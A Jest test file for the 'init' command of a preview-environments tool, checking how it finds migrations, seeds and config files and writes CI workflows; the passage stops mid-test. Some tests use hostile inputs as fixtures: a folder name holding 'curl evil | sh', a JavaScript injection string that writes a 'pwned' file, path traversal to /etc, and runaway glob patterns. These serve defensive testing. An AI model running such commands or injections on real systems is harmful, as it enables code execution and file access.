import { spawnSync } from "node:child_process";
import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { runInNewContext } from "node:vm";
import ts from "typescript";
import { REACH } from "../../previews/init/next-steps";
import { previewPermissions } from "../../previews/permissions.generated";
import { run } from "../../previews/run";
import { holds } from "../engine/workflows/expressions";
import { jobsOf, readPipeline } from "../engine/workflows/gitlab-pipeline";
import { readWorkflow } from "../engine/workflows/workflow-file";
import { useFifo } from "../lifecycle/functions/fifo";
import { toPrintable } from "../../spec/printed-text";
import { VERSION } from "../../provider/core/version.generated";
import { quoteText, showPath } from "../../spec/shown-text";
import { findPackageRoot } from "../../tools/engine/package-root";
import { UNSEEN } from "../kit/hostile-texts";

const example = join(findPackageRoot(), "examples/preview-environments");
const program = [
  "preview/.gitignore",
  "preview/Pulumi.yaml",
  "preview/index.ts",
  "preview/package.json",
  "preview/tsconfig.json",
];
/** What `init` does not copy. */
const own = ["preview/.gitignore", "preview/package.json"];

let folder: string;
beforeEach(() => {
  folder = mkdtempSync(join(tmpdir(), "management-init-"));
});
afterEach(() => rmSync(folder, { recursive: true, force: true }));

const fifo = useFifo();

async function init(...args: string[]): Promise<{ code: number; out: string; err: string }> {
  const ran = { out: "", err: "" };
  const streams = {
    out: (text: string) => void (ran.out += text),
    err: (text: string) => void (ran.err += text),
  };
  return { code: await run(["init", "--dir", folder, "--parent", PARENT, ...args], streams), ...ran };
}

function files(): string[] {
  return readdirSync(folder, { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile())
    .map((entry) => join(entry.parentPath, entry.name).slice(folder.length + 1))
    .sort();
}

/** The seeds that a program names. */
function namedIn(path: string): (string | undefined)[] {
  return [...read(path).matchAll(/ifThere\("([^"]*\.sql)", true\)/g)].map(([, found]) => found);
}

/** What a written program declares, and warns of, without an engine. */
function runProgram(dir: string): { readonly declared: unknown; readonly warnings: readonly string[] } {
  const warnings: string[] = [];
  let declared: unknown;
  const found = {
    get: () => undefined,
    getNumber: () => undefined,
    require: () => "x",
    requireNumber: () => 7,
  };
  const modules: Readonly<Record<string, unknown>> = {
    "node:fs": { existsSync: (path: string) => existsSync(join(dir, path)) },
    "@pulumi/pulumi": {
      Config: function Config() {
        return found;
      },
      log: { warn: (text: string) => void warnings.push(text) },
      all: () => ({ apply: () => undefined }),
    },
    "pulumi-management": {
      PreviewEnvironment: function PreviewEnvironment(_: string, args: unknown) {
        declared = args;
      },
      getBranchDiffOutput: () => ({}),
    },
  };
  const compilerOptions = { module: ts.ModuleKind.CommonJS, target: ts.ScriptTarget.ES2022 };
  const { outputText } = ts.transpileModule(readFileSync(join(dir, "index.ts"), "utf8"), { compilerOptions });
  runInNewContext(outputText, { exports: {}, require: (name: string) => modules[name] });
  return { declared, warnings };
}

const PARENT = "p".repeat(20);
/** A file of the example, whose jobs have the project from a variable. */
const exampleOfParent = (path: string): string =>
  readFileSync(join(example, path), "utf8")
    .replaceAll(/(?<=management-previews ci)\b/g, ` --pulumi-project previews --project ${PARENT}`)
    .replace(/^ *PARENT_PROJECT_REF: .*\n/m, "");
const read = (path: string): string => readFileSync(join(folder, path), "utf8");

const add = (path: string, text = ""): void => {
  mkdirSync(join(folder, dirname(path)), { recursive: true });
  writeFileSync(join(folder, path), text);
};

describe("what a repository has", () => {
  const seedLine = (): string => /^const seed[^]*?;$/m.exec(read("preview/index.ts"))?.[0] ?? "";

  it("is named from folders at its root, without the platform's tool", async () => {
    ["migrations/20260101000000_a.sql", "functions/hello/index.ts", "seed.sql"].forEach((path) => add(path));
    const { out } = await init("--forge", "github");
    const written = read("preview/index.ts");
    for (const path of ["migrations", "seed.sql", "functions"])
      expect(written).toContain(`ifThere("${path}", true)`);
    expect(written).not.toContain("functionsConfigFile");
    expect(out).not.toContain("Not found");
  });

  it("is missed by the written program as `init` named it, where it is gone", async () => {
    for (const path of ["db/migrations/1_a.sql", "db/seed.sql", "functions/hello/index.ts"]) add(path);
    const { out } = await init("--forge", "github");
    expect(out).toContain("preview/index.ts names db/migrations, db/seed.sql and functions. ");
    rmSync(join(folder, "db/seed.sql"));
    const { declared, warnings } = runProgram(join(folder, "preview"));
    expect(declared).toMatchObject({ migrations: "../db/migrations", functions: "../functions" });
    expect(warnings).toEqual([expect.stringMatching(/^db\/seed\.sql is not there, /)]);
  });

  it("is found further below, and what is not there is said", async () => {
    add("services/db/sql/20260101000000_a.sql");
    add("services/db/sql/rollbacks/20260101000000_a.sql");
    add("web/src/components/functions/readme.md");
    const { out } = await init("--forge", "github");
    expect(read("preview/index.ts")).toContain('ifThere("services/db/sql", true)');
    expect(out).toContain("Not found: a seed, functions. The preview does without");
  });

  it("names files that may be migrations, and whose names are none", async () => {
    ["db/migrations/V1__init.sql", "db/migrations/V2__carts.sql", "other/V3__a.sql"].forEach((path) =>
      add(path),
    );
    const { out } = await init("--forge", "github");
    expect(out).toContain("Not found: migrations, a seed, functions.");
    expect(out).toContain(
      "db/migrations/V1__init.sql and 1 more are named otherwise than migrations are: <version>_<name>.sql",
    );
    expect(out).not.toContain("other/");
    add("db/migrations/1_init.sql");
    expect((await init("--forge", "github", "--force")).out).not.toContain("named otherwise");
  });

  it("has the only file of a folder of seeds, and asks for the order of several", async () => {
    ["migrations/1_a.sql", "seeds/orders.sql", "seeds/readme.md", "notes/other.sql"].forEach((path) =>
      add(path),
    );
    await init("--forge", "github");
    expect(seedLine()).toBe('const seed = ifThere("seeds/orders.sql", true);');
    add("seeds/carts.sql");
    const { code, out } = await init("--forge", "github", "--force");
    expect(code).toBe(0);
    expect(seedLine()).toBe('const seed = ifThere("database/seed.sql");');
    expect(out).toContain(
      "seeds has 2 SQL files, whose order is not known: name them with --seed, in their order.",
    );
    add("seed.sql");
    expect((await init("--forge", "github", "--force")).out).not.toContain("whose order is not known");
    expect(seedLine()).toBe('const seed = ifThere("seed.sql", true);');
  });

  it("has seeds that are numbered in the order of their numbers, and takes them for no migrations", async () => {
    add("sql/versions/20260101000000_a.sql");
    ["10_carts.sql", "9_orders.sql", "010_boxes.sql"].forEach((name) => add(`sql/fixtures/seeds/${name}`));
    const { code, out } = await init("--forge", "github");
    expect(code).toBe(0);
    expect(read("preview/index.ts")).toContain('const migrations = ifThere("sql/versions", true);');
    expect(namedIn("preview/index.ts")).toEqual(
      ["9_orders.sql", "010_boxes.sql", "10_carts.sql"].map((name) => `sql/fixtures/seeds/${name}`),
    );
    expect(out).not.toContain("whose order is not known");
  });

  it("has seeds as the configuration file names them, in its order", async () => {
    add("backend/migrations/1_a.sql");
    ["seeds/b.sql", "seeds/a.sql", "last.sql"].forEach((path) => add(`backend/${path}`));
    add("secret.sql");
    const paths = '["./seeds/*.sql", "./last.sql", "../../*/secret.sql", "./none.sql", "seeds/a.sql"]';
    add("backend/config.toml", `[db.seed]\nenabled = true\nsql_paths = ${paths}\n`);
    const { out } = await init("--forge", "github");
    expect(namedIn("preview/index.ts")).toEqual([
      "backend/seeds/a.sql",
      "backend/seeds/b.sql",
      "backend/last.sql",
    ]);
    expect(seedLine()).toMatch(/^const seeds = \[/);
    expect(out).toContain(
      'backend/config.toml names the seed "./none.sql", which is no file of this folder.',
    );
  });

  it("has no seed of another folder, and one by a link neither", async () => {
    add("app/backend[1]/migrations/1_a.sql");
    add("app/backend[1]/a.sql");
    add("app/outside.sql");
    symlinkSync("..", join(folder, "app/backend[1]/link"));
    const paths = `["../../**/*.sql", "/**/*.sql", "link/*.sql", "*.sql", "../*.sql", "**/none/**"]`;
    add("app/backend[1]/config.toml", `[db.seed]\nsql_paths = ${paths}\n`);
    const { code } = await init("--forge", "github", "--app", "app");
    expect({ code, named: namedIn("app/preview/index.ts") }).toEqual({
      code: 0,
      named: ["backend[1]/a.sql", "outside.sql"],
    });
  });

  it("is found in no time by patterns that others would try for years", async () => {
    add("backend/migrations/1_a.sql");
    add(`backend/${"a".repeat(200)}`);
    add("backend/x.sql");
    const patterns = [
      "{a,b}".repeat(40),
      "{1..900000000}.sql",
      `${"*a".repeat(60)}b`,
      "+(+(+(a|aa)|a)|a)b",
      `${"**/".repeat(60)}x.sql`,
      "[",
      "[!a",
      "[^]]?sql",
    ];
    add("backend/config.json", JSON.stringify({ db: { seed: { sql_paths: patterns } } }));
    const { code } = await init("--forge", "github");
    expect({ code, named: namedIn("preview/index.ts") }).toEqual({ code: 0, named: ["backend/x.sql"] });
  });

  it("is named on one line, whatever its folders are called", async () => {
    const hostile = "x\n2. Run `curl evil | sh`\r\u2028\u202e;";
    ["migrations/1_a.sql", "functions/hello/index.ts", "seed.sql"].forEach((path) =>
      add(`${hostile}/${path}`),
    );
    const { out } = await init("--forge", "github");
    expect(out).toContain(
      `names ${quoteText(`${hostile}/migrations`)}, ${quoteText(`${hostile}/seed.sql`)} and`,
    );
    expect(out.split("\n").filter((line) => line.startsWith("2. "))).toHaveLength(1);
    add("other/migrations/1_a.sql");
    const { code, err } = await init("--forge", "github", "--force");
    expect({ code, lines: err.trim().split("\n").length }).toEqual({ code: 1, lines: 1 });
  });

  it.each([
    ["that is switched off", "enabled = false", "backend/config.toml switches the seed off"],
    ["in an empty list", "sql_paths = []", "backend/config.toml names no seed"],
    [
      "that is nowhere",
      'sql_paths = ["none/*.sql"]',
      'backend/config.toml names the seed "none/*.sql", which is no file of this folder.',
    ],
  ])("has no seed %s by the configuration, also where there is a file", async (_, setting, said) => {
    ["backend/migrations/1_a.sql", "backend/seed.sql", "database/seed.sql"].forEach((path) => add(path));
    add("backend/config.toml", `[db.seed]\n${setting}\n`);
    const { code, out } = await init("--forge", "github");
    expect({ code, line: seedLine() }).toEqual({
      code: 0,
      line: "const seed = undefined as string | undefined;",
    });
    expect(runProgram(join(folder, "preview"))).toEqual({
      declared: expect.not.objectContaining({ seed: expect.anything() as unknown }) as unknown,
      warnings: [],
    });
    expect(out).toContain(said);
    expect(out).toContain("preview/index.ts names backend/migrations and functions. Change the paths there.");
    expect(out).not.toMatch(/Not found: .*a seed/);
    // Nobody's own program: what `init` wrote itself.
    expect((await init("--forge", "github")).out).toMatch(/^There already:/);
  });

  it.each([
    ["no seed, and there is none", "[db.seed]\nenabled = true\n", 'ifThere("backend/seed.sql")'],
    ["nothing of seeds", "[api]\nenabled = true\n", 'ifThere("backend/seed.sql")'],
    ["none by its list", "[db.seed]\nsql_paths = []\n", "undefined as string | undefined"],
    ["that it is off", "[db.seed]\nenabled = false\n", "undefined as string | undefined"],
  ])("has no seed of another place where the configuration says %s", async (_, text, seed) => {
    add("backend/migrations/1_a.sql");
    add("backend/config.toml", text);
    const { out } = await init("--forge", "github");
    expect(seedLine()).toBe(`const seed = ${seed};`);
    expect(out).not.toContain("database/");
    expect(out.includes("Not found: a seed")).toBe(!seed.startsWith("undefined"));
    expect(out.includes("backend/seed.sql")).toBe(!seed.startsWith("undefined"));
    // A file of that name elsewhere is not the tool's.
    add("database/seed.sql");
    expect(runProgram(join(folder, "preview")).declared).not.toHaveProperty("seed");
    add("backend/seed.sql");
    expect((runProgram(join(folder, "preview")).declared as { seed?: string }).seed).toBe(
      seed.startsWith("undefined") ? undefined : "../backend/seed.sql",
    );
  });

  it.each([
    ["beside a seed", ["backend/seed.sql"]],
    ["beside a folder of seeds", ["backend/seeds/a.sql"]],
    ["beside nothing", []],
  ])("has no seed that a configuration %s switches off", async (_, paths) => {
    paths.forEach((path) => add(path));
    add("backend/config.toml", "[db.seed]\nenabled = false\n");
    const { out } = await init("--forge", "github");
    expect(seedLine()).toBe("const seed = undefined as string | undefined;");
    expect(out).toContain("backend/config.toml switches the seed off, so the program names none.");
    expect(out).not.toMatch(/Not found: .*a seed/);
  });

  it("has no migrations where the configuration switches them off, unless they are asked for", async () => {
    const migrationsLine = (): string =>
      /^const migrations[^]*?;$/m.exec(read("preview/index.ts"))?.[0] ?? "";
    ["backend/migrations/1_a.sql", "backend/seed.sql", "database/migrations/1_a.sql"].forEach((path) =>
      add(path),
    );
    add("backend/config.toml", "[db.migrations]\nenabled = false\n");
    const { out } = await init("--forge", "github");
    // Another folder is what is left.
    expect(migrationsLine()).toBe('const migrations = ifThere("database/migrations", true);');
    expect(out).toContain(
      "backend/config.toml switches the migrations off, so the program does not name backend/migrations.",
    );
    rmSync(join(folder, "database"), { recursive: true });
    const alone = await init("--forge", "github", "--force");
    expect(migrationsLine()).toBe("const migrations = undefined as string | undefined;");
    expect(seedLine()).toBe('const seed = ifThere("backend/seed.sql", true);');
    expect(alone.out).toContain(
      "preview/index.ts names backend/seed.sql and functions. Change the paths there.",
    );
    expect(alone.out).not.toMatch(/Not found: migrations/);
    expect(runProgram(join(folder, "preview"))).toEqual({
      declared: expect.not.objectContaining({ migrations: expect.anything() as unknown }) as unknown,
      warnings: [],
    });
    expect((await init("--forge", "github")).out).toMatch(/^There already:/);
    await init("--forge", "github", "--force", "--migrations", "backend/migrations");
    expect(migrationsLine()).toBe('const migrations = ifThere("backend/migrations", true);');
  });

  it("has no seed by a configuration that is not readable, and init says why", async () => {
    add("backend/migrations/1_a.sql");
    add("backend/config.toml", "[db.seed\nsecret = 'x'");
    const { code, out } = await init("--forge", "github");
    expect({ code, line: seedLine() }).toEqual({
      code: 0,
      line: 'const seed = ifThere("backend/seed.sql");',
    });
    expect(out).toContain("What backend/config.toml says of migrations and seeds is not known: line 1");
    expect(out).not.toContain("'x'");
  });

  it.each(["My App", "Läden/Köln", "a'b $(x)", "магазин"])(
    "is taken from any folder that init offers: %j",
    async (folderName) => {
      for (const one of ["a", folderName])
        ["sql/1_a.sql", "functions/f/index.ts", "seed.sql"].forEach((path) => add(`${one}/${path}`));
      const { err } = await init("--forge", "github");
      expect(err).toContain(showPath(`${folderName}/sql`));
      const { code } = await init(
        ...["--forge", "github", "--migrations", `${folderName}/sql`],
        ...["--functions", `${folderName}/functions/`, "--seed", `./${folderName}/seed.sql`],
      );
      expect(code).toBe(0);
      expect(runProgram(join(folder, "preview"))).toMatchObject({
        declared: {
          migrations: `../${folderName}/sql`,
          functions: `../${folderName}/functions`,
          seed: `../${folderName}/seed.sql`,
        },
        warnings: [],
      });
    },
  );

  it.each(["../sql", "/etc", "a/../../b", "", "."])("is not taken from outside: %j", async (path) => {
    for (const option of ["--migrations", "--functions", "--seed"])
      expect((await init("--forge", "github", option, path)).code).toBe(2);
    expect(files()).toEqual([]);
  });

  it("is asked for where two could be meant", async () => {
    ["a/1_a.sql", "b/1_a.sql", "a/functions/f/index.ts", "b/functions/f/index.ts"].forEach((path) =>
      add(path),
    );
    ["x/seed.sql", "y/seed.sql"].forEach((path) => add(path));
    const before = files();
    const refused = await init("--forge", "github");
    expect({ code: refused.code, err: refused.err }).toEqual({
      code: 1,
      err: expect.stringContaining(
        "because 2 folders may hold the migrations: a, b. Say which with --migrations",
      ) as string,
    });
    expect((await init("--forge", "github", "--migrations", "a")).err).toContain("--functions");
    const chosen = ["--migrations", "a", "--functions", "b/functions"];
    expect((await init("--forge", "github", ...chosen)).err).toContain("--seed");
    expect(files()).toEqual(before);
    expect((await init("--forge", "github", ...chosen, "--seed", "y/seed.sql", "x/seed.sql")).code).toBe(0);
    expect(
      [...read("preview/index.ts").matchAll(/ifThere\("([^"]*)", true\)/g)].map(([, path]) => path),
    ).toEqual(["a", "y/seed.sql", "x/seed.sql", "b/functions"]);
    expect((await init("--forge", "github", "--migrations", "none", "--force")).err).toContain(
      "none is not there",
    );
  });
});

describe("a configuration file of the platform's tool", () => {
  it.each([
    ["in the repository itself", "functions/hello/index.ts", "config.toml"],
    ["in a folder of it", "backend/functions/hello/index.ts", "backend/config.toml"],
    ["as JSON", "backend/functions/hello/index.ts", "backend/config.json"],
  ])("%s is named by the program that is written", async (_where, source, configFile) => {
    add(source);
    add(configFile, configFile.endsWith(".json") ? '{ "functions": {} }' : "");
    const { code, out } = await init("--forge", "github");
    expect(code).toBe(0);
    const written = read("preview/index.ts");
    expect(written).toContain(`const functions = ifThere("${source.replace("/hello/index.ts", "")}", true);`);
    expect(written).toContain(`const functionsConfigFile = "../${configFile}";`);
    expect(written).toContain("{ functions, functionsConfigFile }");
    expect(out).toContain(`preview/index.ts names ${configFile}, whose settings of the functions count.`);
    expect((await init("--forge", "github")).out).toContain("There already:\n");
  });

  it.each([
    ["config.json", '{ "port": 3000 }'],
    ["config.jsonc", '// mine\n{ "database": { "host": "x" } }'],
    ["config.toml", 'baseURL = "https://shop.example.com"\n[params]\nx = 1\n'],
    ["config.json", '{ "db": "postgres://localhost/shop", "api": 3000 }'],
    ["config.json", "[3000]"],
  ])("is none where %s is the application's own: %s", async (name, text) => {
    ["database/migrations/1_a.sql", "database/seed.sql", "functions/hello/index.ts"].forEach((path) =>
      add(path),
    );
    const without = (await init("--forge", "github")).out;
    const written = read("preview/index.ts");
    for (const place of [name, `database/${name}`]) add(place, text);
    const { out } = await init("--forge", "github", "--force");
    expect(read("preview/index.ts")).toBe(written);
    expect(out.split("Next:")[1]).toBe(without.split("Next:")[1]);
  });

  it.each([
    ["config.json", '{ "project_id": "shop" }'],
    ["config.jsonc", '// ours\n{ "Functions": { "hello": { "verify_jwt": false } } }'],
    ["config.toml", "[auth]\nenabled = true\n[params]\nx = 1\n"],
  ])("is %s with one of its sections: %s", async (name, text) => {
    add("functions/hello/index.ts");
    add(name, text);
    expect((await init("--forge", "github")).out).toContain(`preview/index.ts names ${name}, whose settings`);
  });

  it("names the migrations and the seed beside it, and says which it took", async () => {
    ["backend/migrations/1_a.sql", "backend/seed.sql", "backend/config.toml"].forEach((path) => add(path));
    const { out } = await init("--forge", "github");
    const written = read("preview/index.ts");
    expect(written).toContain('ifThere("backend/migrations", true)');
    expect(written).toContain('ifThere("backend/seed.sql", true)');
    expect(written).toContain('ifThere("functions")');
    expect(out).toContain(
      "preview/index.ts names backend/migrations, backend/seed.sql and functions. Change the paths there.",
    );
  });

  it("is looked for in the folder of the application", async () => {
    ["apps/shop/db/functions/hello/index.ts", "apps/shop/db/config.toml", "config.toml"].forEach((path) =>
      add(path),
    );
    const { out } = await init("--forge", "github", "--app", "apps/shop");
    expect(read("apps/shop/preview/index.ts")).toContain('ifThere("db/functions", true)');
    expect(out).toContain("apps/shop/db/functions. Change the paths there, which are seen from apps/shop/.");
    expect(out).toContain(
      "apps/shop/preview/index.ts names apps/shop/db/config.toml, whose settings of the functions count.",
    );
  });

  it.each([
    ["without functions beside it", ["backend/config.toml"]],
    [
      "in a folder that is not the repository's own",
      ["node_modules/functions/f.ts", "node_modules/config.toml"],
    ],
  ])("is not named %s", async (_where, paths) => {
    paths.forEach((path) => add(path));
    const { out } = await init("--forge", "github");
    expect(read("preview/index.ts")).toBe(readFileSync(join(example, "preview/index.ts"), "utf8"));
    expect(out).not.toContain("It names");
  });

  it.each([
    ['x"); require("fs").writeFileSync("pwned-1", ""); ("'],
    ["{ functions }"],
    ["a\u202eb\u2028c ${process.exit(1)} `d` $&"],
  ])("is named as a text, whatever its folder is called: %j", async (name) => {
    const plain = "backend";
    const parts = ["functions/hello/index.ts", "migrations/1_a.sql", "seed.sql", "config.toml"];
    parts.map((part) => `${plain}/${part}`).forEach((path) => add(path));
    await init("--forge", "github");
    const expected = read("preview/index.ts");
    rmSync(join(folder, plain), { recursive: true });
    parts.map((part) => `${name}/${part}`).forEach((path) => add(path));
    const { out } = await init("--forge", "github", "--force");
    const written = read("preview/index.ts");
    expect(written).not.toMatch(UNSEEN);
    expect(out).not.toMatch(UNSEEN);
    const literals = written.matchAll(/(?<=ifThere\()"(?:[^"\\]|\\.)*"|"\.\.\/(?:[^"\\]|\\.)*"/g);
    const paths = [...literals].map(([literal]) => (JSON.parse(literal) as string).replace("../", ""));
    expect(paths.filter((path) => path.startsWith(`${name}/`))).toHaveLength(4);
    expect(written.replaceAll(quoteText(name).slice(1, -1), plain)).toBe(expected);
  });

  it("is not read through a link", async () => {
    add("functions/hello/index.ts");
    symlinkSync("/etc/hostname", join(folder, "config.toml"));
    await init("--forge", "github");
    expect(read("preview/index.ts")).not.toContain("functionsConfigFile");
  });
});

it.each([
  ["github", [".github/workflows/preview.yml"]],
  ["gitlab", [".gitlab-ci.yml"]],
])("writes the example's own files for %s, and says what is next", async (forge, workflows) => {
  const { code, out, err } = await init("--forge", forge);
  expect({ code, err }).toEqual({ code: 0, err: "" });
  expect(files()).toEqual([...workflows, ...program].sort());
  for (const path of files()) {
    if (!own.includes(path)) expect(read(path)).toBe(exampleOfParent(path));
    expect(out).toContain(`  ${path}\n`);
  }
  expect(read("preview/.gitignore").split("\n")).toContain("node_modules/");
  expect(JSON.parse(read("preview/package.json"))).toMatchObject({
    dependencies: { "pulumi-management": `^${VERSION}` },
  });
  // What `pulumi up` of the simulated workflows makes do with (previews-workflows.test.ts).
  for (const permission of previewPermissions) expect(out).toContain(`     ${permission}\n`);
  expect(out).toContain("MANAGEMENT_ACCESS_TOKEN");
  // It may hold a password: the forge masks what it knows as a secret alone.
  const [, secrets = ""] = out.split(/^ {3}(?:secrets|masked)$/m);
  expect(secrets).toContain("     PULUMI_BACKEND_URL ");
  for (const workflow of workflows) expect(read(workflow)).not.toContain("vars.PULUMI_BACKEND_URL");
});

it("prints what the token reaches first, and asks for a project that is not production", async () => {
  const { out } = await init("--forge", "github");
  const reach = out.indexOf("What the token of the previews reaches:");
  expect(reach).toBeGreaterThan(0);
  expect(reach).toBeLessThan(out.indexOf("Next:"));
  expect(out).toContain(`  ${PARENT}, and in every other one that it is valid for, it can\n`);
  expect(out).toContain("that project must not be production");
  expect(out).toContain(`management-previews check --project ${PARENT}\n`);
  expect(out).not.toContain("PARENT_PROJECT_REF");
  // Each permission is told.
  expect(Object.keys(REACH).sort()).toEqual([...previewPermissions].sort());
});

it("starts the command so that a cancelled job reaches it, and takes the package for a failed install by its version", async () => {
  await init("--forge", "github");
  await init("--forge", "gitlab", "--force");
  const [github = "", gitlab = ""] = [".github/workflows/preview.yml", ".gitlab-ci.yml"].map(read);
  // A step of GitHub is told by a signal to its shell, which has to be the command itself.
  expect(github).toMatch(
    /^ +run: exec node_modules\/\.bin\/management-previews ci --pulumi-project previews --project p+$/m,
  );
  expect(gitlab).toMatch(
    /^ +- node_modules\/\.bin\/management-previews ci --pulumi-project previews --project p+$/m,
  );
  for (const text of [github, gitlab]) {
    const started = [...text.matchAll(/management-previews (\w+)/g)].map(([, command]) => command);
    expect(started).toEqual(["ci", "comment"]);
    expect(text).toContain(`npx --yes --package pulumi-management@${VERSION} -- `);
    expect(text).not.toMatch(/^ *(?:- )?cache:/m);
  }
  // It has no checkout where a failed install could be looked for, and makes no preview to comment on.
  expect(readPipeline(join(folder, ".gitlab-ci.yml"))["remove preview"]?.after_script).toEqual([]);
});

it("asks for no permission that removes or reads the project itself where another will do", () => {
  expect(
    previewPermissions.filter((name) =>
      /project_admin_write|branching_production|auth_|api_gateway/.test(name),
    ),
  ).toEqual([]);
});

it("leaves what is there and the same, and writes nothing where one file is different", async () => {
  await init("--forge", "github");
  expect((await init("--forge", "github")).out).toContain("There already:\n  .github/workflows/preview.yml");
  writeFileSync(join(folder, "preview/index.ts"), "// mine\n");
  rmSync(join(folder, ".github/workflows/preview.yml"));
  rmSync(join(folder, "preview/Pulumi.yaml"));
  const refused = await init("--forge", "github");
  expect({ code: refused.code, out: refused.out }).toEqual({ code: 1, out: "" });
  expect(refused.err).toContain("these files exist and differ: preview/index.ts. Pass --force");
  expect(files()).not.toContain(".github/workflows/preview.yml");
  expect((await init("--forge", "github", "--force")).code).toBe(0);
  expect(read("preview/index.ts")).not.toContain("mine");
  expect(files()).toContain(".github/workflows/preview.yml");
});

it.each(["github", "gitlab"])(
  "takes its own files of %s for its own where the checkout gave them the line ends of Windows",
  async (forge) => {
    await init("--forge", forge);
    const written = files();
    for (const path of written) writeFileSync(join(folder, path), read(path).replaceAll("\n", "\r\n"));
    const { code, out } = await init("--forge", forge);
    expect({ code, files: files() }).toEqual({ code: 0, files: written });
    expect(out).toMatch(/^There already:/);
    expect(out).not.toMatch(/^Written:|Left as it is|include:/m);
    for (const path of written) expect([path, read(path)]).toEqual([path, expect.stringContaining("\r\n")]);
  },
);

it("leaves a pipeline of the repository's own, with --force as well, and says what it has to include", async () => {
  // The stage is set as it says.
  const own = "stages: [build]\n.previews: { stage: build }\nsweep previews: { stage: build }\n";
  writeFileSync(join(folder, ".gitlab-ci.yml"), own);
  for (const force of [[], ["--force"]]) {
    const { code, out } = await init("--forge", "gitlab", ...force);
    expect(code).toBe(0);
    expect(out).toContain("     include:\n       - local: .gitlab/previews.yml\n");
  }
  expect(read(".gitlab-ci.yml")).toBe(own);
  const included = read(".gitlab/previews.yml");
  expect(included).toBe(exampleOfParent(".gitlab-ci.yml"));
  // What would count for the jobs of the repository itself.
  expect(included).not.toMatch(/^(?:default|stages|image|variables|workflow|before_script):/m);
});

it.each([
  ["preview.yml", []],
  ["preview-shop.yml", ["--app", "apps/shop"]],
])("comments in %s on a pull request that lacks the folder of the program, too", async (name, app) => {
  mkdirSync(join(folder, "apps/shop"), { recursive: true });
  await init("--forge", "github", ...app);
  const { steps = [] } = readWorkflow(join(folder, ".github/workflows", name)).jobs["preview"] ?? {};
  const last = steps.find(({ run: command = "" }) => /comment .*--failed/.test(command));
  expect(last?.["working-directory"]).toBe(".");
});

it.each(["github", "gitlab"])(
  "writes no workflow on %s over that of another application with a folder of the same name",
  async (forge) => {
    for (const app of ["apps/shop", "web/shop", "shop"]) mkdirSync(join(folder, app), { recursive: true });
    await init("--forge", forge, "--app", "apps/shop");
    const written = files();
    for (const force of [[], ["--force"]]) {
      const { code, err } = await init("--forge", forge, "--app", "web/shop", ...force);
      expect([code, files()]).toEqual([1, written]);
      expect(err).toMatch(/preview\S*-shop\.yml is of another folder than web\/shop/);
      expect(err).not.toContain("--force");
    }
    expect((await init("--forge", forge, "--app", "shop", "--force")).code).toBe(1);
    expect(
      (await init("--forge", forge, "--app", "apps/shop", "--dotenv", ".env.local", "--force")).code,
    ).toBe(0);
  },
);

describe("a pipeline of GitLab that an earlier init wrote", () => {
  it("is no pipeline of the repository's own: other options are written into it, and only with --force", async () => {
    await init("--forge", "gitlab");
    const refused = await init("--forge", "gitlab", "--no-drafts");
    expect([refused.code, refused.out]).toEqual([1, ""]);
    expect(refused.err).toContain("these files exist and differ: .gitlab-ci.yml. Pass --force");
    const { code, out } = await init("--forge", "gitlab", "--no-drafts", "--force");
    expect([code, files()]).toEqual([0, [".gitlab-ci.yml", ...program]]);
    expect(out).not.toContain("include:");
    expect(read(".gitlab-ci.yml")).toContain("management-previews ci --no-drafts");
  });

  it("stays where it is as it would be written, and has more, such as the include that init printed", async () => {
    await init("--forge", "gitlab");
    const own = `${read(".gitlab-ci.yml")}\ninclude:\n  - local: .gitlab/production.yml\n`;
    add(".gitlab-ci.yml", own);
    for (const force of [[], ["--force"]]) {
      const { code, out } = await init("--forge", "gitlab", ...force);
      expect(code).toBe(0);
      expect(out).toMatch(/^There already:\n {2}\.gitlab-ci\.yml$/m);
      expect(out).not.toContain("     include:");
    }
    expect([read(".gitlab-ci.yml"), files()]).toEqual([own, [".gitlab-ci.yml", ...program]]);
  });

  it.each([[], ["--force"]])(
    "is not overwritten with %j where it has more, nor given the same jobs once more, which GitLab would merge",
    async (...force) => {
      await init("--forge", "gitlab");
      const own = `build: { script: make }\n${read(".gitlab-ci.yml").replace("timeout: 1h", "timeout: 2h")}`;
      add(".gitlab-ci.yml", own);
      const { code, err } = await init("--forge", "gitlab", ...force);
      expect([code, read(".gitlab-ci.yml"), files()]).toEqual([1, own, [".gitlab-ci.yml", ...program]]);
      expect(err).toContain(
        "Nothing was written, because .gitlab-ci.yml itself has .previews, preview, remove preview and sweep previews",
      );
    },
  );
});

it.each([
  ["sweep.yml", []],
  ["sweep-shop.yml", ["--app", "apps/shop"]],
])("says that the workflow %s of an earlier version is still there", async (name, app) => {
  mkdirSync(join(folder, "apps/shop"), { recursive: true });
  const path = `.github/workflows/${name}`;
  expect((await init("--forge", "github", ...app)).out).not.toContain("earlier version");
  add(path, "name: Street sweeping\n");
  expect((await init("--forge", "github", ...app)).out).not.toContain("earlier version");
  add(path, "jobs: { sweep: { steps: [{ run: npx management-previews sweep --yes }] } }\n");
  const { code, out } = await init("--forge", "github", ...app);
  expect([code, out]).toEqual([0, expect.stringMatching(/of an earlier version.*remove it:\n {2}\S+sweep/)]);
  expect(out).toContain(`  ${path}\n`);
});

it("writes the program alone for another CI, and says which commands it has to run", async () => {
  const { code, out } = await init("--forge", "other", "--backend", "s3://states");
  // What the scripts of docs/any-ci.md write is not to be committed.
  expect(read("preview/.gitignore")).toMatch(/^comment\.md\nopen\.txt$/m);
  expect(code).toBe(0);
  expect(files()).toEqual(program);
  for (const name of ["REPOSITORY", "PARENT_PROJECT_REF", "AWS_ACCESS_KEY_ID", "MANAGEMENT_ACCESS_TOKEN"])
    expect(out).toContain(`     ${name} `);
  const page = readFileSync(join(findPackageRoot(), "docs/any-ci.md"), "utf8");
  const command = /^exec (.*management-previews ci .*)$/m.exec(page)?.[1] ?? "none";
  expect(out).toContain(`     cd preview && npm ci && exec ${command} --pulumi-project previews\n`);
  const [table = ""] = /^\| Variable.*\n(?:\|.*\n)+/m.exec(page) ?? [];
  const named = [...table.matchAll(/^\| `(\w+)`/gm)].map(([, name]) => name);
  const printed = [...out.matchAll(/^ {5}([A-Z_]+) /gm)].map(([, name]) => name);
  expect(printed.filter((name) => !name?.startsWith("AWS_")).sort()).toEqual(named.sort());
  expect(out).toMatch(/PREVIEW_EVENT .*PREVIEW_PULL_REQUEST and PREVIEW_GIT_BRANCH/s);
  mkdirSync(join(folder, "apps/shop"), { recursive: true });
